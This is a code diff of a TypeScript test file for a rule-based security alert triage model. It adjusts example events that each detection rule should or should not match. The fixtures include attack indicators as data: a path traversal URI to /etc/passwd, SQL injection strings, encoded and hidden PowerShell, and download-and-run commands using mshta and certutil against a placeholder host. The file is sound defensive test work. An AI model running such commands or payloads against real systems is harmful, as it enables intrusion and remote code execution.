@@ -3,7 +3,7 @@ import type { Severity } from '../../../incidents/incident.js';
 import { fieldsOfRawData } from '../../../incidents/incident-fields.js';
 import { isInMail, isOwnPlace } from '../../evidence/own-places.js';
 import type { ScoredPoint, TriageCase } from '../triage-model.port.js';
-import { type Doubt, evaluate, named } from './conditions.js';
+import { type Doubt, evaluate } from './conditions.js';
 import { Facts } from './facts.js';
 import { RULES_HASH, RulesModel } from './rules-model.js';
 import { classify, findingsIn, RULES, sumsOf } from './score.js';
@@ -107,10 +107,6 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
     { uri: '/unions/select?union=2&id=5' },
   ],
   web_attack_named: [says('SQL injection attempt'), { subject: 'SQL injection, a course' }],
-  named_with_request: [
-    { rule: 'Path traversal', uri: '/a' },
-    { rule: 'Path traversal', host: 'web-1' },
-  ],
   request_let_through: [
     { uri: '/a?f=../../etc/passwd', status: 200 },
     { uri: '/a?f=../../etc/passwd', status: 403, action: 'blocked' },
@@ -122,8 +118,8 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
   encoded_shell: [{ args: ['powershell', '-enc', 'x'] }, { args: ['powershell', '-file', 'x'] }],
   hidden_shell: [says('powershell -w hidden'), says('powershell')],
   download_and_run: [
-    { args: ['certutil', '-urlcache', '-f', 'x'] },
-    { args: ['certutil', '-dump'] },
+    { args: ['mshta', 'http://one.test/x'] },
+    { args: ['certutil', '-urlcache', '-f', 'http://one.test/x'] },
   ],
   script_host: [says('wscript.exe'), says('script')],
   web_shell: [
@@ -195,13 +191,8 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
   ],
   push_flood: [says('MFA fatigue'), says('fatigue')],
   fraud_report: [says('user: it was not me'), says('the firewall denies it')],
-  odd_client: [{ ua: 'python-requests/2.32' }, { ua: 'Mozilla/5.0' }],
   much_read_after: [{ messages_downloaded: 4000 }, { messages_downloaded: 4 }],
   factor_changed: [says('Register device'), says('Device')],
-  new_factor_after_risk: [
-    { event: 'Register device', risky_sign_in: true },
-    { event: 'Register device' },
-  ],
   consent: [says('Consent to application'), says('Application')],
   unverified_publisher: [{ publisher: 'unverified' }, { publisher: 'One Inc.' }],
   privilege: [{ role: 'Global Administrator' }, says('Special privileges assigned')],
@@ -280,10 +271,6 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
     { host: 'ws-1', classification: 'malware' },
     { sender: 'a@one.example', subject: 'x', classification: 'spam' },
   ],
-  rated_takeover: [
-    { rule: 'Root account takeover', urgency: 'high' },
-    { rule: 'Account created', urgency: 'high' },
-  ],
   tagged_malicious: [{ taggedMalicious: true }, { malicious: 1 }],
   called_spam: [{ classification: 'spam' }, { subject: 'spam' }],
   kind_named: [{ category: 'Malware' }, { category: 'Compliance' }],
@@ -291,8 +278,6 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
     { rule: 'Credential phishing link' },
     { rule: 'Phishing simulation: report by user' },
   ],
-  threat_suspected: [{ threatSuspected: 'true' }, { threatSuspected: 'false' }],
-  behaviour_new: [{ behaviors: '{New IP=POSITIVE}' }, { behaviors: '{New IP=NEGATIVE}' }],
   tool_sees_attack: [says('Hands on keyboard on ws-1'), says('Hands on a keyboard')],
   tool_dismissed: [{ analyst_verdict: 'false_positive' }, { analyst_verdict: 'undefined' }],
   leaver: [
@@ -317,7 +302,6 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
   bulk_mail: [{ gateway_category: 'bulk' }, { gateway_category: 'phish' }],
   sent_by_us: [{ direction: 'internal' }, { direction: 'inbound' }],
   device_of_company: [{ device: { managed: true } }, { device: { managed: false } }],
-  place_of_company: [{ corporate_vpn: true }, { consumer_vpn: true }],
   stopped_at_the_door: [
     { uri: '/?id=1 union select 2', action: 'blocked' },
     { uri: '/', action: 'blocked' },
@@ -338,7 +322,6 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
     { process: 'mshta.exe', arguments: 'https://one.test/a' },
     { process: 'winword.exe', arguments: 'https://one.test/a' },
   ],
-  command_answered: [{ answer: 'uid=33(www-data)' }, { answer: 'uid=33' }],
   exposed: [says('Public bucket'), says('Bucket')],
   cloud_misuse: [says('Machines in an unused region'), says('Machines in a region')],
   attack_type: [{ type: 'Stealth:IAMUser/X' }, { type: 'Recon:IAMUser/X' }],
@@ -375,6 +358,14 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
     { EventID: 4769, TicketEncryptionType: '0x17', ServiceName: 'FS-1$' },
   ],
   device_code_used: [says('protocol deviceCode'), says('protocol code')],
+  role_activated: [
+    { activityDisplayName: 'Add member to role completed (PIM activation)' },
+    { activityDisplayName: 'Add member to role' },
+  ],
+  cluster_component: [
+    { output_fields: { 'k8s.ns.name': 'kube-system' } },
+    { output_fields: { 'k8s.ns.name': 'shop' } },
+  ],
   inbox_rule_made: [says('New-InboxRule'), says('New rule')],
   tool_names_technique: [{ technique: 'T1003.001' }, { technique: 'T1078' }],
   tool_names_ransomware: [{ alert: 'Data Encrypted for Impact' }, { alert: 'Data encrypted' }],
@@ -449,8 +440,7 @@ const EXAMPLES: Readonly<Record<string, readonly [holds: RawData, holdsNot: RawD
 function severityFor(event: RawData): Severity {
   if (event === EXAMPLES['rated_low']![0]) return 'low';
   if (event === EXAMPLES['tool_says_critical']![0]) return 'critical';
-  const grave = ['tool_says_high', 'rated_takeover'];
-  return grave.some((name) => event === EXAMPLES[name]![0]) ? 'high' : 'medium';
+  return event === EXAMPLES['tool_says_high']![0] ? 'high' : 'medium';
 }
 
 /** These two are large, and would take the time of all others together. */
@@ -591,17 +581,6 @@ const nested = (names: readonly string[]): RawData =>
   names.reduceRight<RawData>((inner, name) => ({ [name]: inner }), { x: 1 });
 
 describe('the rules', () => {
-  it('try a pattern once on each name, even if many events have the name', () => {
-    const pattern = /^unheard$/;
-    const test = jest.spyOn(pattern, 'test');
-    const read = () => evaluate(named(pattern, /x/), Facts.of({ seen: { hostname: 'ws-1' } }));
-    read();
-    const once = test.mock.calls.length;
-    expect(once).toBeGreaterThan(0);
-    read();
-    expect(test.mock.calls).toHaveLength(once);
-  });
-
   it('have unique names and one example each', () => {
     const names = RULES.map(({ name }) => name);
     expect(new Set(names).size).toBe(names.length);
@@ -700,7 +679,7 @@ describe('calming rules', () => {
 
   it('make an event benign by several habits if one shows the purpose', () => {
     const device = [example('device_of_company'), example('strong_factor')];
-    expect(verdictOn({}, ...device, example('place_of_company'))).toBe('inconclusive');
+    expect(verdictOn({}, ...device, example('network_inside'))).toBe('inconclusive');
     expect(verdictOn(example('travel'), ...device)).toBe('benign');
     expect(verdictOn({}, ...device, example('approved_on_record'))).toBe('benign');
     expect(verdictOn({}, example('usual_here'), example('widespread'))).toBe('inconclusive');
